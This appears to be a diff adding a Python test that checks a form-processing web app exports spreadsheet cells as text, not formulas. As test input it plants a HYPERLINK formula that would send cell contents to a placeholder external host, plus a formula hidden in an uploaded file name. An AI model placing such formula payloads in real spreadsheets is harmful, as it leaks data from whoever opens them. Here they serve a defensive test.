@@ -321,3 +321,25 @@ def test_self_check_refuses_a_yaml_alias_bomb_at_once(client):
     assert time.perf_counter() - t < 0.5
     assert "不允许使用锚点" in html and "申报数据.yaml" in html
     assert client.get("/").status_code == 200
+
+
+def test_batch_downloads_keep_formulas_as_text(client, tmp_path):
+    from toolkit.docxform import write_filled
+    from web_support import sample_data
+    data = sample_data()
+    data["annex1"]["unit_name"] = '=HYPERLINK("http://example.invalid/"&A1,"点此查看")'
+    write_filled(1, data, tmp_path / "annex1.docx", base_dir=SAMPLES)
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.write(tmp_path / "annex1.docx", "附件1.docx")
+    buf.seek(0)
+    r = _post(client, [(buf, "=1+2.zip")], field="files")
+    html = wait_done(client, r.headers["Location"])
+    url = re.search(r'href="(/jobs/[^"]+/xlsx)"', html).group(1)
+    status, _, body = download(client, url)
+    wb = load_workbook(io.BytesIO(body))
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert {"=1+2", data["annex1"]["unit_name"]} <= {c.value for c in cells}
+    status, _, body = download(client, url[:-4] + "csv")
+    assert "'=1+2," in body.decode("utf-8-sig")
